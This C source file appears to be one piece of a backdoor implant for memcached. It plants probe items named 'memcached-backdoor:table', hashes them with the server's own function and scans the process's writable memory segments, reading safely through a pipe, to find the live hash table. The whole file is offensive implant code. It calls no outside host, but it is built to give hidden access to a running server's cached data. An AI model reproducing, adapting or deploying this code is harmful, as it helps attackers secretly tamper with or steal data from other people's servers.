/*
 * Where the hash table is, by experiment in the proof's child: the program's
 * writable data has one word that points to an array of buckets in which items
 * that were just stored come first, each in the bucket of its hash.
 */
#define _GNU_SOURCE
#include "dialect.h"
#include "table.h"

#include <elf.h>
#include <fcntl.h>
#include <link.h>
#include <malloc.h>
#include <stdio.h>
#include <string.h>
#include <sys/auxv.h>
#include <unistd.h>

#define KEYS 24
/* Of these, how many must be found: two may share a bucket. */
#define ENOUGH 22

/* -o hashpower (memcached.c: main). */
#define HASHPOWER_MIN 12
#define HASHPOWER_MAX 32

static item *items[KEYS];
static uint32_t hvs[KEYS];

/* Reads where there may be no memory: write(2) fails then. */
static void *word_at(uintptr_t address) {
    static int pipes[2] = {-1, -1};
    void *word = NULL;
    if (pipes[0] < 0 && pipe2(pipes, O_CLOEXEC) != 0) {
        return NULL;
    }
    bool there = write(pipes[1], (const void *)address, sizeof word) == sizeof word;
    return there && read(pipes[0], &word, sizeof word) == sizeof word ? word : NULL;
}

/* Whether the items are in an array of buckets where they must be if it has 2^power of them. */
static bool holds_items(uintptr_t array, unsigned power) {
    unsigned missed = 0;
    for (unsigned i = 0; i < KEYS && missed <= KEYS - ENOUGH; i++) {
        uint64_t bucket = hvs[i] & ((UINT64_C(1) << power) - 1);
        missed += word_at(array + bucket * sizeof(void *)) != items[i];
    }
    return missed <= KEYS - ENOUGH;
}

static bool is_table(uintptr_t array) {
    for (unsigned power = HASHPOWER_MIN; power <= HASHPOWER_MAX; power++) {
        if (holds_items(array, power)) {
            size_t room = malloc_usable_size((void *)array) / sizeof(void *);
            return room >> power == 1; /* table.c: buckets_of is right about it */
        }
    }
    return false;
}

static bool store_items(struct backdoor_worker *worker) {
    for (unsigned i = 0; i < KEYS; i++) {
        char key[64];
        int nkey = snprintf(key, sizeof key, "memcached-backdoor:table:%u", i);
        items[i] = mc_item_alloc(key, (size_t)nkey, 0, 0, 2);
        if (items[i] == NULL) {
            return false;
        }
        mc_set_cas(items[i], 0);
        memcpy(mc_data(items[i]), "\r\n", 2);
        if (mc_store_item(items[i], NREAD_SET, worker, 0) != STORED) {
            return false;
        }
        hvs[i] = (*(hash_fn **)mc_functions.hash)(key, (size_t)nkey);
    }
    return true;
}

uintptr_t locate_table(struct backdoor_worker *worker) {
    if (mc_functions.hash == 0 || !store_items(worker)) {
        return 0;
    }
    const ElfW(Phdr) *phdr = (const ElfW(Phdr) *)getauxval(AT_PHDR);
    size_t n = getauxval(AT_PHNUM);
    uintptr_t bias = 0, found = 0;
    for (size_t i = 0; i < n; i++) {
        if (phdr[i].p_type == PT_PHDR) {
            bias = (uintptr_t)phdr - phdr[i].p_vaddr;
        }
    }
    for (size_t i = 0; i < n; i++) {
        if (phdr[i].p_type != PT_LOAD || !(phdr[i].p_flags & PF_W)) {
            continue;
        }
        uintptr_t at = (bias + phdr[i].p_vaddr + 7) & ~(uintptr_t)7;
        uintptr_t end = bias + phdr[i].p_vaddr + phdr[i].p_memsz;
        for (; at + sizeof(uintptr_t) <= end; at += sizeof(uintptr_t)) {
            uintptr_t array = *(uintptr_t *)at;
            if (array >= 4096 && array % 8 == 0 && is_table(array)) {
                if (found != 0) {
                    return 0;
                }
                found = at;
            }
        }
    }
    return found;
}
